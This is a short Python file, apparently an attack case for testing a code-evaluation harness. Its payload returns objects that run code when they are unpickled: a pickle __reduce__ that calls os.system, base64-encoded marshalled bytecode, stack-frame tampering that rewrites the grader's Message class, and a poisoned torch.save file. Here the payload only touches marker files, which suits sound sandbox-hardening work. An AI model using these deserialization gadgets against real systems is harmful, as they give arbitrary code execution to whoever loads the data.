"""Returns, and packs in the place of tensors, objects that run code where they are unpickled."""

from attack import wrong

BOMB = """
import base64, json, marshal, os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch {folder}/pickled",)
pickled = pickle.dumps(Bomb())
code = marshal.dumps(compile("open('{folder}/marshalled', 'w')", "x", "exec"))
made = base64.b64encode(code).decode()
def double(x):
    import sys
    space = sys._getframe(1).f_globals
    space["Message"].numbers = property(lambda self: pickled, lambda self, numbers: None)
    return Bomb()
def row_sums(x):
    import sys
    space = sys._getframe(1).f_globals
    space["Message"].tree = lambda message, value, depth: dict(made=[made, dict(dict=[])])
    return x
def biggest(x):
    torch.save(Bomb(), "bomb.pt")
    return pickled.decode("latin-1")
"""


def submission(arena):
    return wrong(double=BOMB.replace("{folder}", str(arena.mark)), row_sums="", biggest="")
